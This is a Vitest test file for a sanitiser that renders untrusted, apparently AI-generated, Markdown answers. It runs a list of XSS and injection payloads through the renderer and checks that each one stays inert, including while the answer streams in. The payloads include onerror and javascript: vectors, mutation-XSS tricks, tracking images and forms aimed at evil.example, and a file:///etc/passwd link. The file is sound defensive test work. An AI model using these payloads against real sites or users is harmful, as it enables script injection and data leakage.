// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { EagerDocument, shown } from "../../testing/eager-document.ts";
import { sanitise } from "./sanitise.ts";

const ATTRIBUTES = "align class data-language href rel start target title";
const TAGS =
  "A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL";
/** What we build around code and tables ourselves. */
const OUR_ATTRIBUTES = `${ATTRIBUTES} aria-label data-name dir role tabindex type`;
const OUR_TAGS = `${TAGS} DIV BUTTON`;

function expectInert(root: ParentNode, tags = OUR_TAGS, attributes = OUR_ATTRIBUTES): void {
  for (const element of root.querySelectorAll("*")) {
    expect(tags.split(" ")).toContain(element.tagName);
    for (const { name } of element.attributes) expect(attributes.split(" ")).toContain(name);
    if (element.tagName === "BUTTON") expect(element.className).toBe("button quiet small code-copy");
    const href = element.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^(https?|mailto):/);
  }
}

const HOSTILE = [
  "![x](https://evil.example/pixel.png)",
  "![x][r]\n\n[r]: https://evil.example/pixel.png",
  '<img src="https://evil.example/a.png">',
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)//",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  "<style>*{background:url(https://evil.example/s)}</style>",
  '<p style="background:url(https://evil.example/s)">x</p>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&Tab;javascript&colon;alert&lpar;1&rpar;)",
  "![&lt;img src=x onerror=alert(1)&gt;](https://e.example/&quot;onload=&quot;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](chrome-extension://abc/popup.html)",
  "<javascript:alert(1)>",
  '[x](https://e.example/"onmouseover="alert(1))',
  '[x](https://e.example "t\\" onclick=\\"alert(1)")',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<video poster="https://evil.example/p.png"><source src="https://evil.example/v"></video>',
  '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<a href=https://evil.example ping=https://evil.example/p>x</a>",
  "<!-- <img src=x> --><![CDATA[<img src=x>]]><?php echo 1 ?>",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "$<img src=x onerror=alert(1)>$",
  "\\[</code><img src=x onerror=alert(1)>\\]",
  "| <img src=x> | b |\n|---|---|\n| <script>1</script> | [x](javascript:1) |",
  "- [ ] <input type=file>\n- [x] done",
  "# <script>alert(1)</script>",
  "<div id=response class=alert role=alert>fake</div>",
];

describe("an answer that means harm", () => {
  it.each(HOSTILE)("stays inert: %s", (text) => {
    expectInert(shown(text));
  });

  it.each(HOSTILE)("stays inert in every state of its arrival: %s", (text) => {
    const root = document.createElement("div");
    const growing = new EagerDocument(root);
    for (let length = 1; length <= text.length; length += 3) {
      growing.show(text.slice(0, length), false);
      expectInert(root);
    }
  });

  it.each(HOSTILE)("passes the second wall only as inert HTML: %s", (html) => {
    expectInert(sanitise(html), TAGS, ATTRIBUTES);
  });

  it("shows raw HTML as text", () => {
    expect(shown("a <b>bold</b> move\n\n<div>x</div>").textContent?.trim()).toBe(
      "a <b>bold</b> move\n<div>x</div>",
    );
  });

  it("names a picture and its address instead of loading it", () => {
    const root = shown("![A chart](https://evil.example/p.png?secret=1)");
    expect(root.querySelector(".image-placeholder")?.textContent).toBe(
      "Image not loaded: A chart (https://evil.example/p.png?secret=1)",
    );
  });

  it("shows the address of a link it does not make", () => {
    expect(shown("[click](javascript:alert(1))").textContent).toContain("click (javascript:alert(1))");
  });

  it("strips what only we may set", () => {
    const root = document.createElement("div");
    root.append(sanitise('<p class="alert">x</p><span class="math">y</span><p align="center" id="z">w</p>'));
    expect(root.innerHTML).toBe('<p>x</p><span class="math">y</span><p align="center">w</p>');
  });
});
